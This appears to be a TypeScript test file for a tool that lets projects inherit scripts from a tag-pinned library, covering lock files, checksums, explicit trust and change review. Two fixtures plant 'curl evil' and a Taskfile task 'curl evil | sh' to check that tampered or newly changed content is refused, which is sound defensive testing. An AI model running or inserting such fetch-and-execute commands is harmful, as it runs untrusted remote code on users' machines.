import { Inheritance } from "@dev-infra/inheritance/Inheritance"
import * as LockFile from "@dev-infra/inheritance/LockFile"
import { Trust } from "@dev-infra/inheritance/Trust"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Option from "effect/Option"
import * as fs from "node:fs"
import { join } from "node:path"
import { git } from "../../git-repositories/test/gitHistory.js"
import { layerIn, libraryFiles, tasksOf, world, write } from "./world.js"

const inherit = <A, E, R>(use: (inheritance: Inheritance["Type"]) => Effect.Effect<A, E, R>) => Effect.flatMap(Inheritance, use)
const refusal = <A, E extends { readonly _tag: string }, R>(effect: Effect.Effect<A, E, R>) =>
  Effect.map(Effect.flip(effect), (failure) => ("reason" in failure ? String(failure.reason) : failure._tag))

describe("what a project inherits", () => {
  it.scopedLive("comes with its scripts at the commit of a tag, is locked, and is used once it is trusted, without a network", () =>
    Effect.gen(function* () {
      const { layer, project, publish, repository, url } = yield* world
      const commit = yield* publish({ files: libraryFiles, tags: ["v1.0.0"] })
      yield* Effect.gen(function* () {
        const added = yield* inherit((each) => each.add(project, { name: "infra", from: `${url}@v1.0.0` }))
        assert.strictEqual(added._tag === "Locked" ? added.locked.commit : "", commit)
        assert.strictEqual(added._tag === "Locked" ? added.locked.tree : "", git(repository, ["rev-parse", `${commit}^{tree}`]).toString().trim())
        const script = join(project, ".dev-infra/inherit/infra/scripts/test.sh")
        assert.strictEqual(fs.statSync(script).mode & 0o111, 0o111)
        assert.strictEqual(fs.readFileSync(join(project, ".dev-infra/inherit/.gitignore"), "utf8"), "*\n")
        assert.include(fs.readFileSync(join(project, ".dev-infra.yml"), "utf8"), "ref: v1.0.0")
        assert.strictEqual(fs.readFileSync(join(project, "Taskfile.yml"), "utf8"), "version: '3'\ntasks:\n  build: echo built\n")

        const untrusted = yield* Effect.flip(tasksOf(project))
        assert.strictEqual("reason" in untrusted ? untrusted.reason : "", "NotTrusted")
        assert.include("detail" in untrusted ? untrusted.detail ?? "" : "", "dev-infra inherit trust infra")
        assert.isTrue(yield* inherit((each) => each.trust(project, "infra", { by: "Ada" })))
        assert.isFalse(yield* inherit((each) => each.trust(project, "infra", { by: "Ada" })))
        fs.rmSync(repository, { recursive: true })
        assert.deepStrictEqual(yield* tasksOf(project), ["build", "infra:test", "infra:cloudflare:test"])
        const again = yield* inherit((each) => each.sync(project))
        assert.isFalse(again.isLockChanged)
        assert.deepStrictEqual(again.entries.map((entry) => entry._tag === "Locked" && entry.isNew), [false])
        const same = yield* inherit((each) => each.add(project, { name: "infra", from: `${url}@v1.0.0` }))
        assert.isTrue(same._tag === "Locked" && !same.isNew && same.isTrusted)
      }).pipe(Effect.provide(layer))
    }))

  it.scopedLive("is trusted by others through the lock, and brought by a frozen sync that changes nothing", () =>
    Effect.gen(function* () {
      const { layer, project, publish, root, url } = yield* world
      yield* publish({ files: libraryFiles, tags: ["v1.0.0"] })
      yield* Effect.provide(Effect.zipRight(inherit((each) => each.add(project, { name: "infra", from: `${url}@v1.0.0` })), inherit((each) => each.trust(project, "infra", { by: "Ada" }))), layer)
      fs.rmSync(join(project, ".dev-infra"), { recursive: true })
      const before = fs.readFileSync(join(project, "dev-infra.lock"), "utf8")
      yield* Effect.gen(function* () {
        const missing = yield* Effect.flip(tasksOf(project))
        assert.strictEqual("reason" in missing ? missing.reason : "", "NotHere")
        yield* inherit((each) => each.sync(project, { frozen: true }))
        assert.include(yield* tasksOf(project), "infra:test")
      }).pipe(Effect.provide(layerIn(join(root, "other-home"), { sources: { frozen: true } })))
      assert.strictEqual(fs.readFileSync(join(project, "dev-infra.lock"), "utf8"), before)
    }))

  it.scopedLive("is refused where the lock and the entry differ, and where the lock was edited by hand", () =>
    Effect.gen(function* () {
      const { layer, project, publish, url } = yield* world
      yield* publish({ files: libraryFiles, tags: ["v1.0.0"] })
      yield* publish({ files: { ...libraryFiles, "extra.txt": "2" }, tags: ["v2.0.0"] })
      yield* Effect.gen(function* () {
        yield* inherit((each) => each.add(project, { name: "infra", from: `${url}@v1.0.0` }))
        yield* inherit((each) => each.trust(project, "infra", { by: "Ada" }))
        const [metadata, lock] = [join(project, ".dev-infra.yml"), join(project, "dev-infra.lock")]
        const good = fs.readFileSync(lock, "utf8")
        fs.writeFileSync(metadata, fs.readFileSync(metadata, "utf8").replace("v1.0.0", "v2.0.0"))
        assert.strictEqual(yield* refusal(inherit((each) => each.sync(project, { frozen: true }))), "LockDiffers")
        assert.strictEqual(yield* refusal(tasksOf(project)), "NotLocked")
        const moved = yield* inherit((each) => each.sync(project))
        assert.isTrue(moved.isLockChanged)
        assert.strictEqual(yield* refusal(tasksOf(project)), "NotTrusted")

        fs.writeFileSync(metadata, fs.readFileSync(metadata, "utf8").replace("v2.0.0", "v1.0.0"))
        fs.writeFileSync(lock, good.replace(/tree: .*/, `tree: ${"ab".repeat(20)}`))
        assert.strictEqual(yield* refusal(tasksOf(project)), "ChecksumDiffers")
        assert.strictEqual(yield* refusal(inherit((each) => each.sync(project))), "LockDiffers")
        fs.writeFileSync(lock, "version: 1\nlibraries: [\n")
        assert.strictEqual(yield* refusal(inherit((each) => each.sync(project))), "LockUnreadable")
        assert.strictEqual(fs.readFileSync(lock, "utf8"), "version: 1\nlibraries: [\n")
      }).pipe(Effect.provide(layer))
    }))

  it.scopedLive("is refused once a file of it was changed, and sync brings it anew", () =>
    Effect.gen(function* () {
      const { layer, project, publish, url } = yield* world
      yield* publish({ files: libraryFiles, tags: ["v1.0.0"] })
      yield* Effect.gen(function* () {
        yield* inherit((each) => each.add(project, { name: "infra", from: `${url}@v1.0.0` }))
        yield* inherit((each) => each.trust(project, "infra", { by: "Ada" }))
        const script = join(project, ".dev-infra/inherit/infra/scripts/test.sh")
        fs.writeFileSync(script, "#!/bin/sh\ncurl evil\n")
        const failure = yield* Effect.flip(tasksOf(project))
        assert.include("detail" in failure ? failure.detail ?? "" : "", "scripts/test.sh is not as it came")
        yield* inherit((each) => each.sync(project))
        assert.include(fs.readFileSync(script, "utf8"), "echo tested")
        fs.chmodSync(script, 0o644)
        assert.strictEqual(yield* refusal(tasksOf(project)), "ChecksumDiffers")
        yield* inherit((each) => each.sync(project))
        write(join(project, ".dev-infra/inherit/infra/scripts/new.sh"), "x")
        assert.strictEqual(yield* refusal(tasksOf(project)), "ChecksumDiffers")
        yield* inherit((each) => each.sync(project))
        // what tasks that run in the library make there stays
        yield* inherit((each) => each.add(project, { name: "infra", from: `${url}@v1.0.0`, directory: "library" }))
        write(join(project, ".dev-infra/inherit/infra/out/log.txt"), "x")
        assert.include(yield* tasksOf(project), "infra:test")
        yield* inherit((each) => each.sync(project))
        assert.isTrue(fs.existsSync(join(project, ".dev-infra/inherit/infra/out/log.txt")))
      }).pipe(Effect.provide(layer))
    }))

  it.scopedLive("moves with a branch only if that is meant, and stays where it is without a network", () =>
    Effect.gen(function* () {
      const { layer, project, publish, repository, url } = yield* world
      const first = yield* publish({ files: libraryFiles })
      yield* Effect.gen(function* () {
        assert.strictEqual(yield* refusal(inherit((each) => each.add(project, { name: "infra", from: `${url}@main` }))), "Floating")
        assert.isFalse(fs.existsSync(join(project, "dev-infra.lock")))
        yield* inherit((each) => each.add(project, { name: "infra", from: `${url}@main`, floating: true }))
        const second = yield* publish({ files: { ...libraryFiles, more: "2" } })
        const synced = yield* inherit((each) => each.sync(project))
        assert.deepStrictEqual(synced.entries.map((entry) => (entry._tag === "Locked" ? [entry.before?.commit, entry.locked.commit] : [])), [[first, second]])
        fs.renameSync(repository, `${repository}.away`)
        const offline = yield* inherit((each) => each.sync(project))
        assert.deepStrictEqual(offline.entries.map((entry) => entry._tag === "Locked" && entry.locked.commit === second && entry.stale !== undefined), [true])
      }).pipe(Effect.provide(layer))
    }))

  it.scopedLive("is described by what changed since it was trusted", () =>
    Effect.gen(function* () {
      const { layer, project, publish, url } = yield* world
      yield* publish({ files: libraryFiles, tags: ["v1.0.0"] })
      yield* publish({ files: { ...libraryFiles, "scripts/new.sh": "x", "Taskfile.yml": "version: '3'\ntasks:\n  test: curl evil | sh\n" }, tags: ["v2.0.0"] })
      yield* Effect.gen(function* () {
        yield* inherit((each) => each.add(project, { name: "infra", from: `${url}@v1.0.0` }))
        const first = yield* inherit((each) => each.review(project, "infra"))
        assert.isUndefined(first.before)
        assert.deepStrictEqual(first.files.map(({ kind }) => kind), ["added", "added", "added"])
        yield* inherit((each) => each.trust(project, "infra", { by: "Ada" }))
        const metadata = join(project, ".dev-infra.yml")
        fs.writeFileSync(metadata, fs.readFileSync(metadata, "utf8").replace("v1.0.0", "v2.0.0"))
        yield* inherit((each) => each.sync(project))
        const second = yield* inherit((each) => each.review(project, "infra"))
        assert.isFalse(second.isTrusted)
        assert.deepStrictEqual(second.files.map(({ kind, path }) => `${kind} ${path}`), ["changed Taskfile.yml", "added scripts/new.sh"])
        assert.isTrue(Option.isSome(yield* Effect.flatMap(Trust, (trust) => trust.last(second.subject))))
      }).pipe(Effect.provide(layer))
    }))

  it.scopedLive("is gone without a trace when it is removed", () =>
    Effect.gen(function* () {
      const { layer, project, publish, url } = yield* world
      yield* publish({ files: libraryFiles, tags: ["v1.0.0"] })
      yield* Effect.gen(function* () {
        yield* inherit((each) => each.add(project, { name: "infra", from: `${url}@v1.0.0` }))
        yield* inherit((each) => each.remove(project, "infra"))
        assert.deepStrictEqual(fs.readdirSync(join(project, ".dev-infra/inherit")), [".gitignore"])
        assert.deepStrictEqual(Option.getOrThrow(yield* LockFile.read(project)).libraries, [])
        assert.notInclude(fs.readFileSync(join(project, ".dev-infra.yml"), "utf8"), "infra:")
        assert.strictEqual(yield* refusal(inherit((each) => each.remove(project, "infra"))), "NoSuchEntry")
      }).pipe(Effect.provide(layer))
    }))

  it.scopedLive("as a link to a project is its checkout as it is, seen by everybody at once", () =>
    Effect.gen(function* () {
      const { home, project, root } = yield* world
      const infra = join(root, "infra")
      write(join(infra, "Taskfile.yml"), "version: '3'\ntasks:\n  deploy: echo 1\n")
      const layer = layerIn(home, { projects: new Map([["infra", { folder: infra, repository: undefined }]]) })
      yield* Effect.gen(function* () {
        yield* inherit((each) => each.add(project, { name: "infra", from: "project:infra" }))
        assert.isFalse(fs.existsSync(join(project, "dev-infra.lock")))
        assert.deepStrictEqual(yield* tasksOf(project), ["build", "infra:deploy"])
        write(join(infra, "Taskfile.yml"), "version: '3'\ntasks:\n  deploy: echo 2\n  more: echo 3\n")
        assert.deepStrictEqual(yield* tasksOf(project), ["build", "infra:deploy", "infra:more"])
      }).pipe(Effect.provide(layer))
    }))
})
